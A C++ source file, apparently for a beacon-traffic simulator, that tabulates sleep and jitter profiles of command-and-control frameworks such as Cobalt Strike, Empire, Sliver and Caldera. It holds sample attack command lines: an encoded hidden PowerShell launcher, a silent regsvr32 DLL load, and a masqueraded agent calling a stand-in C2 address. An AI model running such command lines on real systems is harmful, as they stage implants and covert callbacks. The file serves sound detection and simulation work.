#include "rhythm/framework.h"

#include <array>

namespace c2sim {
namespace {

constexpr Ticks s(std::int64_t n) { return std::chrono::seconds{n}; }

// Invented: base64 of UTF-16LE "Start-Sleep -Seconds 60"; only its looks matter.
constexpr std::string_view kEmpireLauncher =
    "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -noP -sta -w 1 -enc "
    "UwB0AGEAcgB0AC0AUwBsAGUAZQBwACAALQBTAGUAYwBvAG4AZABzACAANgAwAA==";

constexpr std::string_view kRundll = "C:\\Windows\\System32\\rundll32.exe";
constexpr std::string_view kRegsvr =
    "\"C:\\Windows\\System32\\regsvr32.exe\" /s C:\\ProgramData\\updater\\msvcx.dll";

constexpr std::array<Framework, 15> kFrameworks = {{
    {"cobalt-strike-60-0", "default sleep", {s(60), 0.0, Law::one_sided}, App::rundll32, kRundll},
    {"cobalt-strike-60-37",
     "the commonest jitter",
     {s(60), 0.37, Law::one_sided},
     App::rundll32,
     kRundll},
    {"cobalt-strike-30-90", "seen", {s(30), 0.90, Law::one_sided}, App::rundll32, kRundll},
    {"cobalt-strike-45-37", "seen", {s(45), 0.37, Law::one_sided}, App::regsvr32, kRegsvr},
    {"cobalt-strike-60-30", "seen", {s(60), 0.30, Law::one_sided}, App::rundll32, kRundll},
    {"cobalt-strike-300-20", "slow", {s(300), 0.20, Law::one_sided}, App::rundll32, kRundll},
    {"cobalt-strike-dns-60-37",
     "the same over DNS",
     {s(60), 0.37, Law::one_sided},
     App::rundll32,
     kRundll,
     53,
     Transport::dns},
    {"sliver-60-30", "default", {s(60), 0.5, Law::additive}, App::sliver, ""},
    {"mythic-http-10-23", "default http profile", {s(10), 0.23, Law::symmetric}, App::implant, ""},
    {"empire-5-0", "default", {s(5), 0.0, Law::symmetric}, App::powershell, kEmpireLauncher, 80},
    {"empire-60-20",
     "slowed down",
     {s(60), 0.20, Law::symmetric},
     App::powershell,
     kEmpireLauncher,
     80},
    {"havoc-demo-2-15", "demonstration profile", {s(2), 0.15, Law::symmetric}, App::implant, ""},
    {"caldera-30-60",
     "default, whole seconds",
     {s(30), 1.0, Law::uniform},
     App::sandcat,
     "\"C:\\Users\\Public\\splunkd.exe\" -server http://203.0.113.10:8888 -group red",
     8888},
    {"atomic-t1071.004-2",
     "Atomic Red Team, DNS regular beaconing",
     {s(30), 0.20, Law::symmetric},
     App::powershell,
     "\"powershell.exe\" & {Set-Location PathToAtomicsFolder\\T1071.004\\src; "
     ".\\T1071-dns-beacon.ps1 -Domain example.com -Subdomain atomicredteam -QueryType TXT "
     "-C2Interval 30 -C2Jitter 20 -RunTime 30}",
     53,
     Transport::dns},
    {"poisson-60",
     "no rhythm: exponential gaps",
     {s(60), 0.0, Law::exponential},
     App::rundll32,
     kRundll},
}};

}  // namespace

std::span<const Framework> frameworks() { return kFrameworks; }

const Framework* find_framework(std::string_view name) {
  for (const Framework& f : kFrameworks)
    if (f.name == name) return &f;
  return nullptr;
}

}  // namespace c2sim
